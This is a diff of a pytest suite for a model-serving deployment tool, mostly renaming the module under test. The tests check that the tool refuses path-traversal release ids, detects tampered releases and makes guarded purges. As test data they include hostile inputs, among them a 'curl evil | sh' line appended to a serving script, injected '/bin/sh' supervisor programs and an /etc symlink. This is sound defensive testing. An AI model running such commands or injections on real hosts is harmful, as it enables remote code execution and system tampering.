@@ -20,6 +20,8 @@ from tests.unit.plugins.runner import run_module
 sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "golden"))
 from fixture_specs import combined_spec
 
+RELEASES = "dsv4_host_releases"  # the host module that installs, activates and queries releases
+
 
 def release_files() -> dict[str, str]:
     return render_release(combined_spec("supervisor"), "gpu1")
@@ -30,7 +32,7 @@ def release_files() -> dict[str, str]:
 @pytest.mark.parametrize("release_id", ["../../escaped", "/tmp/abs", "..", "a/b", ".hidden"])
 def test_release_id_outside_the_releases_folder_is_refused(tmp_path: Path, release_id: str) -> None:
     root = tmp_path / "root"
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="present",
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present",
                      release_id=release_id, files=release_files())
     assert out["failed"] and "release id" in out["msg"]
     assert not (tmp_path / "escaped").exists() and not root.exists()
@@ -41,7 +43,7 @@ def test_release_id_outside_the_releases_folder_is_refused(tmp_path: Path, relea
 def test_release_file_keys_outside_the_layout_are_refused(tmp_path: Path, key: str) -> None:
     root = tmp_path / "root"
     files = {**release_files(), key.format(tmp=tmp_path): "#!/bin/sh\necho pwned\n"}
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
     assert out["failed"] and "outside the release layout" in out["msg"]
     assert not (tmp_path / "evil.sh").exists() and not (tmp_path / "abs-evil.sh").exists() and not root.exists()
 
@@ -49,7 +51,7 @@ def test_release_file_keys_outside_the_layout_are_refused(tmp_path: Path, key: s
 def test_files_that_do_not_match_their_manifest_are_refused(tmp_path: Path) -> None:
     files = release_files()
     files["spec.json"] += " "
-    out = run_module("dsv4_release", tmp_path, install_root=str(tmp_path / "root"), state="present",
+    out = run_module(RELEASES, tmp_path, install_root=str(tmp_path / "root"), state="present",
                      release_id="r1", files=files)
     assert out["failed"] and "does not match its own manifest" in out["msg"]
 
@@ -57,41 +59,41 @@ def test_files_that_do_not_match_their_manifest_are_refused(tmp_path: Path) -> N
 def test_an_edited_release_is_never_reused_nor_started(tmp_path: Path) -> None:
     root = tmp_path / "root"
     files = release_files()
-    first = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
+    first = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
     assert first["changed"] and first["release_id"] == "r1"
     script = root / "releases" / "r1" / "bin" / "serve-sglang-dsv4.sh"
     script.chmod(0o755)
     script.write_text(script.read_text() + "curl evil | sh\n")
-    again = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r2", files=files)
+    again = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2", files=files)
     assert again["release_id"] == "r2" and again["changed"]
     assert "installing a fresh copy" in json.dumps(again.get("warnings", []))
     assert "curl evil" not in (root / "releases" / "r2" / "bin" / "serve-sglang-dsv4.sh").read_text()
-    refused = run_module("dsv4_release", tmp_path, install_root=str(root), state="active", release_id="r1")
+    refused = run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id="r1")
     assert refused["failed"] and "was changed on this host" in refused["msg"]
-    ok = run_module("dsv4_release", tmp_path, install_root=str(root), state="active", release_id="r2")
+    ok = run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id="r2")
     assert not ok.get("failed") and ok["active"] == "r2"
     # An added file counts as an edit too (the service manager would pick up an extra unit).
     (root / "releases" / "r2" / "supervisor" / "extra.conf").write_text("[program:x]\ncommand=/bin/sh\n")
-    query = run_module("dsv4_release", tmp_path, install_root=str(root), state="query")
+    query = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
     assert query["active_hash"] == "" and "not in the manifest" in query["active_tampered"]
 
 
 def test_an_intact_release_is_reused(tmp_path: Path) -> None:
     root = tmp_path / "root"
     files = release_files()
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
-    again = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r2", files=files)
+    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1", files=files)
+    again = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2", files=files)
     assert (again["changed"], again["release_id"]) == (False, "r1")
 
 
 def test_install_says_what_the_host_had_before_it(tmp_path: Path) -> None:
     root = tmp_path / "root"
-    first = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1",
+    first = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
                        files=release_files())
     assert (first["before"]["active"], first["before"]["releases"]) == (None, [])
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="active", release_id="r1")
-    query = run_module("dsv4_release", tmp_path, install_root=str(root), state="query")
-    again = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r2",
+    run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id="r1")
+    query = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
+    again = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2",
                        files=release_files())
     assert again["before"] == {k: v for k, v in query.items() if k not in ("changed", "invocation")}
     assert again["before"]["active"] == "r1" and again["before"]["active_hash"]
@@ -101,7 +103,7 @@ def test_install_says_what_the_host_had_before_it(tmp_path: Path) -> None:
 def test_an_unwritable_install_root_is_a_clear_error(tmp_path: Path) -> None:
     root = tmp_path / "root"
     root.mkdir(mode=0o555)
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1",
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
                      files=release_files())
     assert out["failed"] and "cannot write release r1" in out["msg"] and "untouched" in out["msg"]
 
@@ -110,35 +112,35 @@ def test_an_unwritable_install_root_is_a_clear_error(tmp_path: Path) -> None:
 
 @pytest.mark.parametrize("root", ["/", "/opt", "relative/path", "/opt/../etc"])
 def test_purge_refuses_shallow_or_odd_roots(tmp_path: Path, root: str) -> None:
-    out = run_module("dsv4_release", tmp_path, install_root=root, state="purged")
+    out = run_module(RELEASES, tmp_path, install_root=root, state="purged")
     assert out["failed"] and "refusing to purge" in out["msg"]
 
 
 def test_purge_removes_only_what_dsv4deploy_created(tmp_path: Path) -> None:
     root = tmp_path / "root"
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1",
+    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
                files=release_files())
     (root / "logs").mkdir()
     (root / "models").mkdir()
     (root / "models" / "weights.bin").write_text("precious")
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="purged")
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="purged")
     assert out["removed"] == ["logs", "releases/r1", "releases", ".dsv4deploy-owner.json"]
     assert out["left"] == ["models"]
     assert (root / "models" / "weights.bin").read_text() == "precious"
     (root / "models" / "weights.bin").unlink()
     (root / "models").rmdir()
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1",
+    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
                files=release_files())
-    assert run_module("dsv4_release", tmp_path, install_root=str(root), state="purged")["left"] == []
+    assert run_module(RELEASES, tmp_path, install_root=str(root), state="purged")["left"] == []
     assert not root.exists()
 
 
 def install_and_activate(tmp_path: Path, root: Path, release_id: str = "r1") -> None:
     """A release installed and made active, as a deploy leaves it (the lock taken first)."""
     lock(tmp_path, "run-1")
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id=release_id,
+    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id=release_id,
                files=release_files())
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="active", release_id=release_id)
+    run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id=release_id)
 
 
 def test_purge_leaves_what_was_in_the_install_root_before_the_first_install(tmp_path: Path) -> None:
@@ -152,7 +154,7 @@ def test_purge_leaves_what_was_in_the_install_root_before_the_first_install(tmp_
     (root / "index.html").write_text("<html>")
     install_and_activate(tmp_path, root)
     (root / "releases" / "r1" / "notes.txt").write_text("an operator's note inside our release")
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="purged")
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="purged")
     assert not out.get("failed"), out
     assert set(out["removed"]) >= {"releases/r1", "current", "state.json", "deploy.lock"}
     assert set(out["left"]) == {"index.html", "logs", "secrets", "releases", "releases/site-v1",
@@ -173,7 +175,7 @@ def test_purge_without_an_ownership_marker_removes_nothing_it_cannot_prove(tmp_p
         (root / folder).mkdir(parents=True)
     (root / "state.json").write_text('{"visits": 3}')
     (root / "current").symlink_to("/etc")
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="purged")
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="purged")
     assert (out["changed"], out["removed"]) == (False, [])
     assert set(out["left"]) == {"logs", "secrets", "releases", "releases/site-v1", "supervisor", "state.json",
                                 "current"}
@@ -185,7 +187,7 @@ def test_an_install_root_with_a_foreign_pointer_or_state_is_refused(tmp_path: Pa
     root = tmp_path / "root"
     root.mkdir()
     (root / "state.json").write_text('{"visits": 3}')
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1",
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
                      files=release_files())
     assert out["failed"] and "already holds state.json" in out["msg"] and "install_root" in out["msg"]
     assert sorted(p.name for p in root.iterdir()) == ["state.json"]
@@ -199,11 +201,11 @@ def test_a_deployment_made_before_the_marker_is_adopted_and_purged_whole(tmp_pat
     (root / "supervisor").mkdir()
     (root / "supervisor" / "supervisord.conf").write_text("; Managed by dsv4deploy: supervisord\n")
     (root / "models").mkdir()
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r2",
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2",
                      files={**release_files()})
     assert not out.get("failed") and json.loads((root / ".dsv4deploy-owner.json").read_text())["foreign"] == [
         "models"]
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="purged")
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="purged")
     assert out["left"] == ["models"] and {"logs", "supervisor", "releases/r1", "state.json"} <= set(out["removed"])
 
 
@@ -230,7 +232,7 @@ def test_a_service_call_records_the_lock_phase_with_its_own_run(tmp_path: Path) 
 
     def stop(run_id: str, **phases: str) -> dict:
         # Nothing runs under this root: the stop has nothing to do, and still records its phases.
-        return run_module("dsv4_services", tmp_path, manager="supervisor", install_root=str(tmp_path / "root"),
+        return run_module("dsv4_service_state", tmp_path, manager="supervisor", install_root=str(tmp_path / "root"),
                           state="stopped", lock={"path": str(path), "run_id": run_id, "target": "rel-2", **phases})
 
     assert not stop("r1", before="switch: stopping", after="switch: stopped").get("failed")
@@ -300,7 +302,7 @@ def test_a_controller_of_the_same_host_name_elsewhere_is_never_taken_over() -> N
 
 @pytest.mark.parametrize("root", ["/opt/x%(here)s", "/opt/a ;b", "/opt/a\nb", "/opt/a #b"])
 def test_services_module_refuses_roots_supervisord_would_misread(tmp_path: Path, root: str) -> None:
-    out = run_module("dsv4_services_info", tmp_path, manager="supervisor", install_root=root)
+    out = run_module("dsv4_service_state_info", tmp_path, manager="supervisor", install_root=root)
     assert out["failed"] and "install_root" in out["msg"]
 
 
@@ -312,10 +314,10 @@ def _releases(root: Path, tmp_path: Path, count: int, tag: str = "r") -> list[st
         files["bin/serve-extra.sh"] = f"#!/bin/sh\n# {tag}{i}\n"
         files["manifest.json"] = render.manifest_json({k: v for k, v in files.items() if k != "manifest.json"})
         rid = f"2026010{i}T000000Z-{tag}{i}"
-        assert run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id=rid,
+        assert run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id=rid,
                           files=files)["changed"]
-        run_module("dsv4_release", tmp_path, install_root=str(root), state="active", release_id=rid)
-        run_module("dsv4_release", tmp_path, install_root=str(root), state="verified", release_id=rid)
+        run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id=rid)
+        run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id=rid)
         ids.append(rid)
     return ids
 
@@ -323,52 +325,52 @@ def _releases(root: Path, tmp_path: Path, count: int, tag: str = "r") -> list[st
 def test_a_switch_without_pruning_deletes_no_release(tmp_path: Path) -> None:
     root = tmp_path / "root"
     ids = _releases(root, tmp_path, 5)
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="active", release_id=ids[0],
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id=ids[0],
                      keep=5, prune=False)
     assert out["changed"] and out["releases"] == ids and out["active"] == ids[0]
     # The same switch with pruning keeps five at most (what an experiment must never do).
     extra = _releases(root, tmp_path, 6, tag="s")[-1]
-    assert len(run_module("dsv4_release", tmp_path, install_root=str(root), state="query")["releases"]) <= 5
-    assert extra in run_module("dsv4_release", tmp_path, install_root=str(root), state="query")["releases"]
+    assert len(run_module(RELEASES, tmp_path, install_root=str(root), state="query")["releases"]) <= 5
+    assert extra in run_module(RELEASES, tmp_path, install_root=str(root), state="query")["releases"]
 
 
 def test_a_failed_release_is_recorded_with_its_gate_until_it_passes(tmp_path: Path) -> None:
     root = tmp_path / "root"
     first, second = _releases(root, tmp_path, 2)
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="failed", release_id=second,
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="failed", release_id=second,
                      failed_gate="needle")
     # A verified release is never recorded as failed afterwards.
     assert not out["changed"] and out["failed_gates"] == {}
     files = release_files()
     files["bin/serve-extra.sh"] = "#!/bin/sh\n# third\n"
     files["manifest.json"] = render.manifest_json({k: v for k, v in files.items() if k != "manifest.json"})
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="third", files=files)
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="failed", release_id="third",
+    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="third", files=files)
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="failed", release_id="third",
                      failed_gate="needle")
     assert out["changed"] and out["failed_gates"] == {"third": "needle"}
-    queried = run_module("dsv4_release", tmp_path, install_root=str(root), state="query")
+    queried = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
     assert queried["failed_gates"] == {"third": "needle"}
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="verified", release_id="third")
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id="third")
     assert out["failed_gates"] == {} and out["last_good"] == "third" and first in out["good"]
 
 
 def test_a_releases_perf_figures_are_kept_with_its_verdict(tmp_path: Path) -> None:
     root = tmp_path / "root"
     figures = {"key": "k", "release": "r1", "client": {"itl_p50_s": 0.01}}
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r1",
+    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r1",
                files=release_files())
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="active", release_id="r1")
-    out = run_module("dsv4_release", tmp_path, install_root=str(root), state="verified", release_id="r1", perf=figures)
+    run_module(RELEASES, tmp_path, install_root=str(root), state="active", release_id="r1")
+    out = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id="r1", perf=figures)
     assert out["changed"] and out["perf"] == {"r1": figures} and out["last_good"] == "r1"
-    again = run_module("dsv4_release", tmp_path, install_root=str(root), state="verified", release_id="r1",
+    again = run_module(RELEASES, tmp_path, install_root=str(root), state="verified", release_id="r1",
                        perf=figures)
     assert not again["changed"]
     # A failed release keeps its figures beside its failure; the last good one's stay.
     other = render_release(combined_spec("systemd"), "gpu1")
-    run_module("dsv4_release", tmp_path, install_root=str(root), state="present", release_id="r2", files=other)
+    run_module(RELEASES, tmp_path, install_root=str(root), state="present", release_id="r2", files=other)
     slow = {**figures, "release": "r2", "client": {"itl_p50_s": 0.03}}
-    failed = run_module("dsv4_release", tmp_path, install_root=str(root), state="failed", release_id="r2",
+    failed = run_module(RELEASES, tmp_path, install_root=str(root), state="failed", release_id="r2",
                         failed_gate="perf", perf=slow)
     assert failed["failed_gates"] == {"r2": "perf"} and failed["perf"] == {"r1": figures, "r2": slow}
-    query = run_module("dsv4_release", tmp_path, install_root=str(root), state="query")
+    query = run_module(RELEASES, tmp_path, install_root=str(root), state="query")
     assert query["perf"]["r1"] == figures and query["last_good"] == "r1"
